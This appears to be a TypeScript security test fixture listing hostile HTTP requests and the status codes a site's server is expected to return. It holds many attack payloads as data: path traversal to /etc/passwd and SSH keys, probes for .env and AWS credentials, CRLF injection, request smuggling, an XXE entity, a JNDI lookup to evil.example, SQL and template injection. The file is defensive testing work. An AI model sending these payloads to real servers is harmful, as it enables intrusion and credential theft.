import { get, head, post, submitForm, type HostileRequest } from './raw-requests'
import { slowRequests } from './slow-requests'

const json = 'Content-Type: application/json'
const form = 'Content-Type: application/x-www-form-urlencoded'

const rows = (kind: string, status: number, paths: readonly string[]): readonly HostileRequest[] =>
  paths.map((path) => [`${kind}: ${path.slice(0, 80)}`, get(path), status])

/** Paths that try to leave the folder of the site. */
const traversal: readonly HostileRequest[] = [
  ...rows('traversal', 400, [
    '/../secret.txt',
    '/../../etc/passwd',
    '/static/../../secret.txt',
    '/..',
    '/../',
    '/pricing/../../secret.txt',
    '/%2e%2e/secret.txt',
    '/%2e%2e%2fsecret.txt',
    '/.%2e/secret.txt',
    '/%2E./secret.txt',
    '/..%2fsecret.txt',
    '/..%2Fsecret.txt',
    '/..%5csecret.txt',
    '/..%5Csecret.txt',
    '/%2e%2e%5csecret.txt',
    '/..\\secret.txt',
    '/static\\..\\..\\secret.txt',
    '/static/..%2f..%2fsecret.txt',
    '/%2f../secret.txt',
    '//../secret.txt',
    '///../../secret.txt',
    '/./../secret.txt',
    '/static/%2e%2e/%2e%2e/secret.txt',
    '/../public/index.html',
    '/..;/secret.txt/..',
    '/index.html/../../secret.txt',
    '/app.js/../../../secret.txt',
  ]),
  ...rows('traversal', 404, [
    '/%252e%252e/secret.txt',
    '/%25%32%65%25%32%65/secret.txt',
    '/..;/secret.txt',
    '/.../secret.txt',
    '/....//secret.txt',
    '/%25u002e%25u002e/secret.txt',
    '/secret.txt',
    '/etc/passwd',
    '//etc/passwd',
    '/proc/self/environ',
    '/C:/Windows/win.ini',
    '/C:%5cWindows%5cwin.ini',
    '/~root/.ssh/id_rsa',
    '/public/index.html',
    '/server.mjs',
    '/package.json',
    '/node_modules/libsql/index.js',
    '/release.json',
    '/SHA256SUMS',
  ]),
]

/** Files that exist on many servers but not on this one, or are not public. */
const privateFiles: readonly HostileRequest[] = rows('private file', 404, [
  '/_redirects.json',
  '/%5fredirects.json',
  '//_redirects.json',
  '/index.html.br',
  '/index.html.gz',
  '/.env',
  '/.git/config',
  '/.git/HEAD',
  '/.htaccess',
  '/.aws/credentials',
  '/.ssh/id_rsa',
  '/.DS_Store',
  '/wp-login.php',
  '/wp-admin/',
  '/xmlrpc.php',
  '/phpmyadmin/',
  '/cgi-bin/test.cgi',
  '/admin/',
  '/backup.zip',
  '/leads.db',
  '/.local/leads/leads.db',
  '/config.json',
  '/constructor',
  '/__proto__',
  '/__proto__/',
  '/toString',
  '/hasOwnProperty/',
])

const encodings: readonly HostileRequest[] = [
  ...rows('encoding', 400, [
    '/%',
    '/%0',
    '/%zz',
    '/%E0%A4%A',
    '/%c0%ae%c0%ae/secret.txt',
    '/%c0%af',
    '/%ff%fe',
    '/%80',
    '/%ed%a0%80',
    '/%f5%80%80%80',
    '/%u0041',
    '/index.html%00',
    '/index.html%00.png',
    '/%00',
    '/a%00b/',
    '/%0d%0aSet-Cookie:a=b',
    '/%0aLocation:http://evil.example',
    '/pricing%0d%0a/',
    '/%1b%5b2J',
    '/%09',
  ]),
  ...rows('encoding', 404, [
    '/%2f%2fevil.example',
    '/%E2%80%AE/',
    '/%EF%BC%8E%EF%BC%8E/secret.txt',
    '/%20',
    '/%F0%9F%94%A5/',
    '/%3Cscript%3Ealert(1)%3C/script%3E/',
    "/'%20or%201=1--/",
    '/%7B%7B7*7%7D%7D/',
    '/$%7Bjndi:ldap://evil.example/a%7D/',
    '/;ls%20-la/',
  ]),
  ['encoding: /pricing%2f is the page', get('/pricing%2f'), 200],
  ['encoding: /%70ricing is the page without its slash', get('/%70ricing'), 301],
]

/** Addresses that could lead to another site. */
const openRedirects: readonly HostileRequest[] = [
  ...rows('open redirect', 404, [
    '//evil.example',
    '//evil.example/',
    '/%5cevil.example',
    '/\\evil.example',
    '///evil.example/%2f',
  ]),
  ['open redirect: //pricing stays here', get('//pricing'), 301],
  [
    'open redirect: a Host of another site',
    head(['GET /pricing HTTP/1.1', 'Host: evil.example', 'Connection: close']),
    301,
  ],
  ['open redirect: X-Forwarded-Host', get('/pricing', 'X-Forwarded-Host: evil.example'), 301],
  ['open redirect: an absolute address', get('http://evil.example/pricing'), 301],
  ['open redirect: an absolute address of a page', get('http://evil.example/pricing/'), 200],
  ['open redirect: an absolute address without a path', get('http://evil.example'), 200],
]

const long = (length: number): string => 'a'.repeat(length)

const sizes: readonly HostileRequest[] = [
  ['size: a path of 8 KB', get(`/${long(8000)}`), 404],
  ['size: a path of 20 KB', get(`/${long(20_000)}`), 431],
  ['size: a path of 1 MB', get(`/${long(1_000_000)}`), 431],
  ['size: a query of 8 KB', get(`/pricing/?${long(8000)}`), 200],
  ['size: a query of 20 KB', get(`/pricing/?${long(20_000)}`), 431],
  ['size: 2000 folders', get('/a'.repeat(2000)), 404],
  ['size: 4000 slashes', get('/'.repeat(4000)), 200],
  ['size: a header of 20 KB', get('/', `X-Long: ${long(20_000)}`), 431],
  ['size: a cookie of 20 KB', get('/', `Cookie: a=${long(20_000)}`), 431],
  ['size: 1000 headers', get('/', ...Array.from({ length: 1000 }, (_, index) => `X-${index}: ${long(20)}`)), 431],
  ['size: a method of 10 KB', head([`${long(10_000)} / HTTP/1.1`, 'Host: localhost']), 400],
  ['size: 1000 ranges', get('/static/a.mp4', `Range: bytes=${'0-1,'.repeat(1000)}0-1`), 206],
  ['size: 2000 encodings', get('/', `Accept-Encoding: ${'gzip;q=0.1,'.repeat(1000)}br`), 200],
  ['size: 1000 ETags', get('/', `If-None-Match: ${'"a",'.repeat(1000)}"b"`), 200],
]

const syntax: readonly HostileRequest[] = [
  ['syntax: no request', 'hello\r\n\r\n', 400],
  ['syntax: TLS', Buffer.from('16030100a5010000a10303', 'hex'), 400],
  ['syntax: HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400],
  ['syntax: HTTP/0.9', 'GET /\r\n\r\n', 200],
  ['syntax: HTTP/9.9', head(['GET / HTTP/9.9', 'Host: localhost']), 400],
  ['syntax: HTTP/1.1 without a host', head(['GET / HTTP/1.1', 'Connection: close']), 400],
  ['syntax: HTTP/1.0 without a host', head(['GET / HTTP/1.0']), 200],
  ['syntax: two hosts', get('/', 'Host: evil.example'), 400],
  ['syntax: the same host twice', get('/', 'hOST: localhost'), 400],
  ['syntax: two hosts for an endpoint', post(submitForm, '{}', json, 'Host: evil.example'), 400],
  ['syntax: a path without a slash', get('pricing/'), 400],
  ['syntax: an asterisk', get('*'), 400],
  ['syntax: another scheme', get('file:///etc/passwd'), 400],
  ['syntax: an authority', head(['CONNECT evil.example:443 HTTP/1.1', 'Host: evil.example']), 0],
  ['syntax: a space in the path', get('/a b/'), 400],
  ['syntax: a header without a colon', get('/', 'nonsense'), 400],
  ['syntax: a header with a space before the colon', get('/', 'X-A : b'), 400],
  ['syntax: a folded header', get('/', 'X-A: b\r\n c'), 400],
  ['syntax: a null byte in a header', get('/', 'X-A: b\0c'), 400],
  ['syntax: a line feed in a header', get('/', 'X-A: b\nX-B: c'), 400],
  ['syntax: letters as a length', post('/', '', 'Content-Length: abc'), 400],
  ['syntax: a negative length', post('/', '', 'Content-Length: -1'), 400],
  ['syntax: two lengths', post(submitForm, '{}', json, 'Content-Length: 2', 'Content-Length: 20'), 400],
  [
    'syntax: a length and chunks',
    post(submitForm, '0\r\n\r\n', json, 'Content-Length: 5', 'Transfer-Encoding: chunked'),
    400,
  ],
  ['syntax: an unknown transfer encoding', post(submitForm, '{}', json, 'Transfer-Encoding: identity, evil'), 400],
  ['syntax: a broken chunk', post(submitForm, 'zz\r\n{}\r\n0\r\n\r\n', json, 'Transfer-Encoding: chunked'), 400],
  ['syntax: an unknown expectation', get('/', 'Expect: evil'), 200],
]

const methods: readonly HostileRequest[] = [
  ...['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'MKCOL', 'PURGE', 'SEARCH'].map(
    (method): HostileRequest => [`method: ${method} /`, get('/').replace('GET', method), 405],
  ),
  ['method: an unknown one', get('/').replace('GET', 'EVIL'), 400],
  ['method: in small letters', get('/').replace('GET', 'get'), 400],
  ['method: overridden by a header', post('/pricing/', '', 'X-HTTP-Method-Override: GET'), 405],
  ['method: GET of an endpoint', get(submitForm), 405],
  ['method: PUT of an endpoint', post(submitForm, '{}', json).replace('POST', 'PUT'), 405],
]

const headers: readonly HostileRequest[] = [
  ['header: a range backwards', get('/static/a.mp4', 'Range: bytes=9-0'), 416],
  ['header: a range beyond the end', get('/static/a.mp4', 'Range: bytes=99999-'), 416],
  ['header: a range of nothing', get('/static/a.mp4', 'Range: bytes=-0'), 416],
  ['header: a huge range', get('/static/a.mp4', 'Range: bytes=0-99999999999999999999'), 206],
  ['header: a range of letters', get('/static/a.mp4', 'Range: bytes=a-b'), 416],
  ['header: an unknown encoding', get('/', 'Accept-Encoding: evil'), 200],
  ['header: no encoding at all', get('/', 'Accept-Encoding: *;q=0'), 200],
  ['header: a prototype as encoding', get('/', 'Accept-Encoding: __proto__, constructor'), 200],
  ['header: ETag of anything', get('/', 'If-None-Match: *'), 304],
  ['header: an ETag without quotes', get('/', 'If-None-Match: ((('), 200],
  ['header: a script as referrer', get('/', 'Referer: javascript:alert(1)'), 200],
  ['header: an upgrade', get('/', 'Upgrade: websocket', 'Connection: Upgrade'), 200],
  ['header: a compressed body', post(submitForm, '{}', json, 'Content-Encoding: gzip'), 415],
]

const webhook = '/api/contentful-webhook'

/** A signature of the right form, but for nothing. */
const falseSignature = [
  `X-Contentful-Signature: ${'0'.repeat(64)}`,
  'X-Contentful-Signed-Headers: x-contentful-signed-headers,x-contentful-timestamp',
  `X-Contentful-Timestamp: ${Date.now()}`,
]

const webhooks: readonly HostileRequest[] = [
  ['webhook: another method', get(webhook, ...falseSignature), 405],
  ['webhook: no signature', post(webhook, '{}', json), 403],
  ['webhook: a false signature', post(webhook, '{}', json, ...falseSignature), 403],
  ['webhook: two signatures', post(webhook, '{}', json, ...falseSignature, ...falseSignature), 403],
  ['webhook: a signature for no body', post(webhook, '', json, ...falseSignature), 403],
  ['webhook: from another site', post(webhook, '{}', json, ...falseSignature, 'Sec-Fetch-Site: cross-site'), 403],
  ['webhook: a compressed body', post(webhook, '{}', json, ...falseSignature, 'Content-Encoding: gzip'), 415],
  ['webhook: 3 MB', post(webhook, long(3_000_000), json, ...falseSignature), 413],
]

const bodies: readonly HostileRequest[] = [
  ['body: no JSON', post(submitForm, '{', json), 400],
  ['body: an array', post(submitForm, '[]', json), 400],
  ['body: null', post(submitForm, 'null', json), 400],
  ['body: nested 100,000 times', post(submitForm, '['.repeat(100_000), json), 400],
  ['body: a prototype', post(submitForm, '{"__proto__":{"formId":"demo"}}', json), 400],
  ['body: nothing', post(submitForm, '', json), 400],
  ['body: no type', post(submitForm, '{}'), 415],
  ['body: an unknown type', post(submitForm, '{}', 'Content-Type: text/evil'), 415],
  ['body: a malformed type', post(submitForm, '{}', 'Content-Type: ;;;'), 400],
  [
    'body: XML',
    post(
      submitForm,
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      'Content-Type: application/xml',
    ),
    415,
  ],
  ['body: a multipart form without a boundary', post(submitForm, 'a', 'Content-Type: multipart/form-data'), 400],
  [
    'body: a multipart form without an end',
    post(submitForm, '--x\r\n', 'Content-Type: multipart/form-data; boundary=x'),
    400,
  ],
  ['body: an unknown form', post(submitForm, '{"formId":"../../demo"}', json), 404],
  ['body: 300 KB of JSON', post(submitForm, `{"a":"${long(300_000)}"}`, json), 413],
  ['body: 10 MB', post(submitForm, long(10_000_000), json), 413],
  ['body: a length of 1 TB', post(submitForm, '', json, 'Content-Length: 1099511627776'), 413],
  ['body: sent to a page', post('/pricing/', 'a=b', form), 405],
  ['body: from another site', post(submitForm, '{}', json, 'Sec-Fetch-Site: cross-site'), 403],
  ['endpoint: none', post('/api/', '{}', json), 404],
  ['endpoint: unknown', post('/api/hubspot/evil', '{}', json), 404],
  ['endpoint: another CRM', post('/api/evil/submitForm', '{}', json), 404],
  ['endpoint: an encoded slash', post('/api/hubspot%2fsubmitForm', '{}', json), 404],
  ['endpoint: traversal', post('/api/../../secret.txt', '{}', json), 404],
  ['endpoint: a name of 101 characters', post(`/api/${long(101)}`, '{}', json), 404],
  ['endpoint: a CRM of 5 KB', post(`/api/${long(5000)}/submitForm`, '{}', json), 404],
  ['endpoint: a file without an id', get('/api/hubspot/file'), 404],
  ['endpoint: a file by a path', get('/api/hubspot/file?id=../../../secret.txt'), 404],
  ['endpoint: a file by two ids', get('/api/hubspot/file?id[]=a&id=b'), 404],
]

export const hostileRequests: readonly HostileRequest[] = [
  ...traversal,
  ...privateFiles,
  ...encodings,
  ...openRedirects,
  ...sizes,
  ...syntax,
  ...methods,
  ...headers,
  ...bodies,
  ...webhooks,
  ...slowRequests,
]
